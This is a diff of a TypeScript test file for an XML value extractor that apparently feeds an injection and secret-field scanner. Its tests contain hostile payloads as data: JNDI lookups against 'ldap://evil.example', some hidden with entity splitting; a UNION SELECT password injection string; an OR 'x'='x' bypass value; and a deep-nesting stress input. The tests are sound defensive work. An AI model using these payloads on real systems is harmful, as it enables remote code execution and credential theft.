@@ -54,20 +54,42 @@ test('mixed content is also read whole; secrets are marked on every value that h
   assert.deepEqual(secret('<l user="a" password="b"/>'), [['l.@user', false], ['l.@password', true]]);
 });
 
-test('entity references glued to text are reported, standalone ones are not; the DTD is read past tricks', () => {
-  const entity = (xml: string) => xmlValues(xml, 1024).internalEntity;
-  assert.equal(entity('<!DOCTYPE r [<!ENTITY j "jn">]><r><q>${&j;di:ldap://evil.example/a}</q></r>'), 'j');
-  assert.equal(entity('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>'), 'a');
+test('plain internal entities are substituted once; nested, markup and DTD-internal uses are reported', () => {
+  const read = (xml: string) => {
+    const r = xmlValues(xml, 1024);
+    return [r.values.map((v) => v.value), r.internalEntity];
+  };
+  assert.deepEqual(read('<!DOCTYPE r [<!ENTITY j "jn">]><r><q>${&j;di:ldap://evil.example/a}</q></r>'), [['${jndi:ldap://evil.example/a}'], undefined]);
+  // Split at a space (a fourteenth review: nothing reported it when only glued references counted).
+  assert.deepEqual(read('<!DOCTYPE r [<!ENTITY a "SELECT password FROM users--">]><r><q>1\' UNION &a;</q></r>'), [["1' UNION SELECT password FROM users--"], undefined]);
+  // Nested: the parser's job, reported.
+  assert.equal(read('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>')[1], 'a');
   // A `]` in a comment, an instruction or a quoted value does not end the subset (a thirteenth review).
-  assert.equal(entity('<!DOCTYPE r [<!-- ]><x> --><!ENTITY j "jn">]><r><q>${&j;di:ldap://x/a}</q></r>'), 'j');
-  assert.equal(entity('<!DOCTYPE r [<?pi ]><x>?><!ENTITY j "jn">]><r><q>${&j;di:ldap://x/a}</q></r>'), 'j');
-  assert.equal(entity('<!DOCTYPE r [<!ENTITY a "]><x>"><!ENTITY j "jn">]><r><q>${&j;di:ldap://x/a}</q></r>'), 'j');
+  for (const trick of ['<!-- ]><x> -->', '<?pi ]><x>?>', '<!ENTITY z "]><x>">'])
+    assert.deepEqual(read(`<!DOCTYPE r [${trick}<!ENTITY j "jn">]><r><q>\${&j;di:x}</q></r>`)[0], ['${jndi:x}'], trick);
   // An attribute default built of one.
-  assert.equal(entity('<!DOCTYPE r [<!ENTITY j "jn"><!ATTLIST q v CDATA "${&j;di:ldap://x/a}">]><r><q/></r>'), 'j');
-  // Standalone: DocBook's product name, Illustrator's namespace entities, the usual escapes.
-  assert.equal(entity('<!DOCTYPE b [<!ENTITY product "Portcullis">]><b><title>&product;</title><p>Use &product; now</p></b>'), undefined);
-  assert.equal(entity('<!DOCTYPE svg [<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">]><svg><foreignObject requiredExtensions="&ns_ai;"/></svg>'), undefined);
-  assert.equal(entity('<r>Tom &amp; Jerry</r>'), undefined);
+  assert.equal(read('<!DOCTYPE r [<!ENTITY j "jn"><!ATTLIST q v CDATA "${&j;di:ldap://x/a}">]><r><q/></r>')[1], 'j');
+  // DocBook and Illustrator: substituted, nothing reported.
+  assert.deepEqual(read('<!DOCTYPE b [<!ENTITY product "Portcullis"><!ENTITY ver "2.1">]><b>&product;&#x2019;s v&ver; docs</b>'), [['Portcullis&#x2019;s v2.1 docs'], undefined]);
+  assert.equal(read('<!DOCTYPE svg [<!ENTITY st0 "fill:none;">]><svg><rect style="&st0;stroke:#000"/></svg>')[1], undefined);
+  assert.equal(read('<r>Tom &amp; Jerry</r>')[1], undefined);
+});
+
+test('XML-RPC and field-style names mark the value they name as secret (a fourteenth review)', () => {
+  const isSecret = (name: string): boolean => name.toLowerCase() === 'password';
+  const secret = (xml: string) => xmlValues(xml, 1024, isSecret).values.filter((v) => v.secret === true).map((v) => v.value);
+  assert.deepEqual(secret("<member><name>password</name><value><string>Tr0ub4dor' OR 'x'='x</string></value></member>"), ["Tr0ub4dor' OR 'x'='x"]);
+  assert.deepEqual(secret('<form><field name="password">hunter2</field><field name="user">bob</field></form>'), ['hunter2']);
+});
+
+test('nesting past 256 elements stops the reading, cheaply (a fourteenth review: 0.5-0.9 s)', () => {
+  const t0 = process.hrtime.bigint();
+  const r = xmlValues(`${'<a>'.repeat(43_000)}${'x<!---->'.repeat(255)}`, 1024);
+  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 50);
+  assert.equal(r.nestedTooDeep, true);
+  const t1 = process.hrtime.bigint();
+  xmlValues(`${'<a>'.repeat(250)}${'x<!---->'.repeat(255)}${'</a>'.repeat(250)}`, 1024);
+  assert.ok(Number(process.hrtime.bigint() - t1) / 1e6 < 50);
 });
 
 test('text split finer than the joined spans is reported as cut, not silently read apart', () => {
